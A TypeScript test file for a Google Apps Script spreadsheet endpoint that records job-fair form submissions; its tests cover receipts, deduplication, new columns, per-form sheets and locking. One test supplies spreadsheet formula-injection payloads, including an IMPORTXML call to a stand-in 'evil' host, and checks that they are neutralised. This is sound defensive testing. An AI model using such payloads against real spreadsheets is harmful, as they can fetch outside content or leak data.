import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { beforeEach, describe, it } from 'node:test';
import { createContext, runInContext } from 'node:vm';

type Fields = Record<string, string[]>;
type Reply = Record<string, unknown>;

const code = readFileSync(resolve(import.meta.dirname, '../../examples/google-apps-script/Code.gs'), 'utf8');

/** A sheet that keeps what was written; like the real one, it shows a text without its leading apostrophe. */
class FakeSheet {
  readonly written: unknown[][] = [];
  getLastRow = () => this.written.length;
  appendRow = (row: unknown[]) => void this.written.push([...row]);
  getDataRange = () => ({ getValues: () => this.written.map((row) => row.map(shown)) });
  getRange = (row: number, column: number) => ({
    setValues: ([values = []]: unknown[][]) =>
      void this.written[row - 1]?.splice(column - 1, values.length, ...values),
  });
}

const shown = (cell: unknown) => (typeof cell === 'string' ? cell.replace(/^'/, '') : cell);

describe('the spreadsheet endpoint', () => {
  const sheets = new Map<string, FakeSheet>();
  const locking: string[] = [];
  const context = createContext({
    SpreadsheetApp: {
      getActiveSpreadsheet: () => ({
        getSheetByName: (name: string) => sheets.get(name) ?? null,
        insertSheet: (name: string) => {
          sheets.set(name, new FakeSheet());
          return sheets.get(name);
        },
      }),
      flush: () => locking.push('flush'),
    },
    LockService: {
      getScriptLock: () => ({
        waitLock: () => locking.push('wait'),
        releaseLock: () => locking.push('release'),
      }),
    },
    ContentService: {
      MimeType: { JSON: 'application/json' },
      createTextOutput: (text: string) => ({ setMimeType: (type: string) => ({ text, type }) }),
    },
    Utilities: { getUuid: randomUUID },
  });
  runInContext(code, context);
  const post = (parameters: Fields): Reply => {
    const reply = (context['doPost'] as (event: object) => { text: string; type: string })({ parameters });
    assert.equal(reply.type, 'application/json');
    return JSON.parse(reply.text) as Reply;
  };
  const row = (sheet: string, index: number): Record<string, unknown> => {
    const [head = [], ...rows] = sheets.get(sheet)?.written ?? [];
    return Object.fromEntries(head.map((name, column) => [String(shown(name)), rows[index]?.[column]]));
  };
  const submission = (fields: Fields = {}): Fields => ({
    _submission_id: [randomUUID()],
    _form: ['registration'],
    _fair: ['jgtc-trisakti-2027'],
    _locale: ['id'],
    fullName: ['Niko'],
    ...fields,
  });
  beforeEach(() => {
    sheets.clear();
    locking.length = 0;
  });

  it('is under forty lines', () => assert.ok(code.trimEnd().split('\n').length < 40));

  it('answers with a receipt that names the submission, and writes one row', () => {
    const sent = submission({ 'skills[]': ['SQL', 'Go'], 'consent.process': ['2027-03-01'] });
    const reply = post(sent);
    assert.equal(reply['submissionId'], sent['_submission_id']?.[0]);
    assert.match(String(reply['reference']), /^JGC-[0-9A-F]{8}$/);
    assert.deepEqual(row('registration', 0), {
      reference: reply['reference'],
      receivedAt: reply['receivedAt'],
      _submission_id: sent['_submission_id']?.[0],
      _form: 'registration',
      _fair: 'jgtc-trisakti-2027',
      _locale: 'id',
      fullName: 'Niko',
      'skills[]': 'SQL; Go',
      'consent.process': '2027-03-01',
    });
  });

  it('drops a repeat and answers as before', () => {
    const sent = submission();
    const [first, again] = [post(sent), post(sent)];
    assert.deepEqual(again, first);
    assert.equal(sheets.get('registration')?.written.length, 2);
  });

  it('adds a column for an answer that nobody gave before, and leaves the rows as they are', () => {
    post(submission({ city: ['Bekasi'] }));
    post(submission({ email: ['a@example.org'], constructor: ['x'] }));
    const [one, other] = [row('registration', 0), row('registration', 1)];
    assert.deepEqual([one['city'], one['email'], one['constructor']], ['Bekasi', undefined, undefined]);
    assert.deepEqual([other['city'], other['email'], other['constructor']], ['', 'a@example.org', 'x']);
  });

  it('keeps the forms in sheets of their own', () => {
    post(submission());
    post(submission({ _form: ['interest'], employerId: ['emp-senandika'] }));
    assert.deepEqual([...sheets.keys()], ['registration', 'interest']);
    assert.equal(row('interest', 0)['employerId'], 'emp-senandika');
  });

  it('writes no cell that a spreadsheet would run, not even a head', () => {
    for (let times = 0; times < 2; times += 1) {
      post(
        submission({
          fullName: ['=IMPORTXML("http://evil.example")'],
          mobile: ['+62812'],
          '=evil': ['@x'],
          a: ['\t-1'],
        }),
      );
    }
    const cells = sheets.get('registration')?.written.flat() ?? [];
    assert.deepEqual(
      cells.filter((cell) => /^\s*[=+\-@]/.test(String(cell))),
      [],
    );
    assert.equal(row('registration', 1)['mobile'], "'+62812");
    assert.equal(cells.filter((cell) => cell === "'=evil").length, 1);
  });

  it('holds its lock from before it looks until after the row is there', () => {
    post(submission());
    assert.deepEqual(locking, ['wait', 'flush', 'release']);
  });

  for (const [what, fields] of [
    ['without an id', submission({ _submission_id: [] })],
    ['of no known form', submission({ _form: ['__proto__'] })],
    ['of nothing', {}],
  ] as const) {
    it(`writes nothing for a request ${what}`, () => {
      assert.deepEqual(Object.keys(post(fields)), ['error']);
      assert.equal(sheets.size, 0);
    });
  }
});
